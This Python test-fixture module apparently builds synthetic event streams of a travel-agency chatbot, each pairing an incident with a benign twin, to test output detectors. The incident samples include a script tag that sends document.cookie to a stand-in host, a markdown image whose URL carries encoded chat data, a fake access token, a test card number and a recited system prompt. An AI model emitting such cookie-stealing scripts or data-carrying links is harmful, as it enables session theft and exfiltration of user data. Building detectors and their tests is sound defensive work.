"""Golden streams of the detectors of outputs, an incident and its benign twin for each; see make_golden."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random
from typing import Any

from tocsin.model import Event, Message

START = 1_760_000_400.0
DAY = 86_400.0
KEY = "Zq8Xw2Rt5Yp9Ls4Kd7Mv1Nb3Hg6Jf0Ca"
RULES = (
    "You are the assistant of a travel agency and you answer politely in at most three sentences. Never "
    "quote a price that did not come from the booking tool. Customers of the gold tier may change a "
    "flight once without a fee, everybody else pays forty euros for it. If somebody asks for a refund, "
    "open a ticket in the queue for refunds and say that a colleague will write within two working days. "
    "Do not mention partner agencies by name."
)
ORDINARY = (
    "Your flight leaves at nine in the morning and you should be at the gate half an hour before that.",
    "The hotel is close to the station, and breakfast is served from seven until ten every day of the week.",
    "I have looked through the booking: two adults, one child, and a window seat for the way back home.",
    "You can change the date of the trip in the menu on the left, and you will get a letter about it.",
)
QUESTION = "Could you please tell me what I have to know about the trip that I booked with you?"
ANSWERS_DE = (
    "Ihr Flug geht um neun Uhr am Morgen, und Sie sollten eine halbe Stunde vorher am Gate sein, damit "
    "Sie nicht warten. Das Hotel ist nicht weit von der Station, und das Frühstück ist auch dabei."
)


def secret_leak(random: Random, incident: bool) -> Iterator[Event]:
    """Answers of an assistant; one holds a key, or one shows what a key looks like."""
    leaks = (
        f"Use this one: ghp_{KEY}Ab12"
        if incident
        else "It looks like ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
    )
    for number in range(40):
        text = leaks if number == 30 else random.choice(ORDINARY)
        yield _answer(random, number * 60, text, session=f"s{number // 5}")


def new_sensitive_type(random: Random, incident: bool) -> Iterator[Event]:
    """Answers with e-mail addresses now and then; one shows a card, or the user's own."""
    card = "The card on file is 4111 1111 1111 1111, valid until next year."
    for number in range(260):
        mail = " Write to desk@example.org about it." if number % 9 == 0 else ""
        asked = f"{QUESTION} I paid with 4111 1111 1111 1111." if number == 240 and not incident else QUESTION
        text = card if number == 240 else random.choice(ORDINARY) + mail
        yield _answer(random, number * 60, text, asked=asked)


def link_exfiltration(random: Random, incident: bool) -> Iterator[Event]:
    """Answers that link to the agency; one shows a picture whose address carries data, or a plain one."""
    data = "?d=" + "c3VtbWFyeSBvZiB0aGUgY2hhdA" * 3 if incident else ""
    for number in range(60):
        text = random.choice(ORDINARY) + " See https://www.travel.example/trips/12."
        if number == 50:
            text = f"![map](https://img.{'collect' if incident else 'travel'}.example/p.png{data})"
        yield _answer(random, number * 60, text)


def prompt_leak(random: Random, incident: bool) -> Iterator[Event]:
    """A conversation under instructions; one answer recites them, or obeys them."""
    for number in range(20):
        told = RULES if incident and number == 15 else random.choice(ORDINARY)
        yield _answer(random, number * 30, told, session="c1", system=RULES)


def unsafe_output(random: Random, incident: bool) -> Iterator[Event]:
    """Plain answers for days; then one with a script in it, or one about scripts."""
    script = (
        "<script>fetch('https://x.example/?c='+document.cookie)</script>" if incident else "A script runs."
    )
    for number in range(240):
        yield _answer(random, number * 600, script if number == 230 else random.choice(ORDINARY))


def language_switch(random: Random, incident: bool) -> Iterator[Event]:
    """English answers to English questions; then one in German, to an English question or to a German one."""
    german = (
        "Können Sie mir bitte sagen, was ich über die Reise wissen muss, die ich nicht mehr zu ändern weiß?"
    )
    for number in range(240):
        odd = number == 230
        asked = german if odd and not incident else QUESTION
        yield _answer(random, number * 60, ANSWERS_DE if odd else random.choice(ORDINARY), asked=asked)


def refusal_shift(random: Random, incident: bool) -> Iterator[Event]:
    """Many users, two refusals in a hundred calls; then thirty for a while, or one user alone is refused."""
    for number in range(900):
        shifted = number >= 700
        refused = random.random() < (0.3 if shifted and incident else 0.02)
        user = f"u{random.randrange(200)}"
        if shifted and not incident and number % 3 == 0:
            refused, user = True, "u-alone"
        status: dict[str, Any] = {"status": "refused", "finish_reason": "refusal"} if refused else {}
        yield _call(random, number * 20, user=user, **status)


def empty_answer(random: Random, incident: bool) -> Iterator[Event]:
    """One answer in a hundred is cut off; then a third, or as ever."""
    for number in range(500):
        cut = random.random() < (0.35 if incident and number >= 400 else 0.01)
        yield _call(random, number * 20, finish_reason="length" if cut else "stop")


def output_shape(random: Random, incident: bool) -> Iterator[Event]:
    """Answers of some hundred tokens; one of many thousands, or of twice as many as usual."""
    for number in range(700):
        event = _call(random, number * 20)
        if number == 650:
            event = _call(random, number * 20, longer=400.0 if incident else 2.0)
        yield event


def _call(random: Random, at: float, *, longer: float = 1.0, **values: Any) -> Event:
    tokens = int(random.lognormvariate(5.0, 0.5) * longer)
    values.setdefault("finish_reason", "stop")
    return Event(
        kind="llm",
        operation="chat",
        time=START + at,
        application="travel",
        model="small",
        input_tokens=int(random.lognormvariate(6.5, 0.4)),
        output_tokens=tokens,
        duration_ms=round(random.lognormvariate(2.5, 0.2) * tokens + 200.0, 1),
        **values,
    )


def _answer(
    random: Random, at: float, text: str, *, asked: str = QUESTION, system: str = "", **values: Any
) -> Event:
    said = (Message("system", system), Message("user", asked)) if system else (Message("user", asked),)
    values |= {"input": said, "output": (Message("assistant", text),), "content_available": True}
    return _call(random, at, **values)


MAKERS: dict[str, Callable[[Random, bool], Iterator[Event]]] = {
    "empty_answer": empty_answer,
    "language_switch": language_switch,
    "link_exfiltration": link_exfiltration,
    "new_sensitive_type": new_sensitive_type,
    "output_shape": output_shape,
    "prompt_leak": prompt_leak,
    "refusal_shift": refusal_shift,
    "secret_leak": secret_leak,
    "unsafe_output": unsafe_output,
}
